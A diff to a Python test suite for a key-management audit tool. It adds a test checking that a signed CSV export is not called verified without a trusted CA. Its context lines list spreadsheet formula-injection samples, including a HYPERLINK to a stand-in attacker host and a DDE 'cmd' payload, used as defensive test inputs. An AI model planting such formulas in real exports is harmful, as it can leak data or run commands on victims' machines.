@@ -92,6 +92,19 @@ def test_csv_export_verifies_offline_and_one_changed_byte_fails(demo_kma: Runnin
         assert "does NOT verify" in bad.stderr
 
 
+def test_an_export_is_not_called_verified_without_a_ca_to_trust(demo_kma: RunningKma, tmp_path: Path) -> None:
+    """Given a signed export and no --ca or --data-dir, when verified, then the exit code is not 0
+    (a forger can sign with a CA of their own) and the message says what to give (finding 14)."""
+    export = tmp_path / "events.csv"
+    with export.open("wb") as out:
+        demo_kma.client("auditor").export_audit_csv(out, event_class="key")
+    untrusted = verify_export("--export", export)
+    assert untrusted.returncode != 0
+    assert "verified" not in untrusted.stdout
+    assert "NOT verified" in untrusted.stderr and "--ca" in untrusted.stderr
+    assert demo_kma.fingerprint in untrusted.stderr
+
+
 FORMULAS = ['=HYPERLINK("http://evil.example/?x","click")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0",
             "-2+3", "\tleading tab", "'already quoted"]  # fmt: skip
 
